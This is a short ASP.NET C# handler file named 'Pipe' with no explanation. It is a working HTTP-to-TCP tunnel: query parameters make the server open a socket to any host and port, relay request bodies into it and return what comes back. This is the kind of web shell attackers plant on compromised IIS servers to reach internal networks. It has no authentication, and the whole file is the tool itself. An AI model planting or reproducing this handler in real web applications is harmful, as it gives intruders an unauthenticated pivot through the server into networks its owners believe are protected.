<%@ WebHandler Language="C#" Class="Pipe" %>
using System;
using System.Net.Sockets;
using System.Web;

public class Pipe : IHttpHandler
{
    public bool IsReusable { get { return false; } }

    public void ProcessRequest(HttpContext ctx)
    {
        string id = ctx.Request.QueryString["i"];
        string verb = ctx.Request.QueryString["v"];
        if (verb == "o")
        {
            TcpClient c = new TcpClient(ctx.Request.QueryString["h"], int.Parse(ctx.Request.QueryString["p"]));
            ctx.Application[id] = c;
            return;
        }
        TcpClient t = (TcpClient)ctx.Application[id];
        NetworkStream ns = t.GetStream();
        if (verb == "w")
        {
            byte[] b = ctx.Request.BinaryRead(ctx.Request.ContentLength);
            ns.Write(b, 0, b.Length);
        }
        else if (verb == "r" && ns.DataAvailable)
        {
            byte[] b = new byte[65536];
            int n = t.Client.Receive(b);
            ctx.Response.OutputStream.Write(b, 0, n);
        }
    }
}
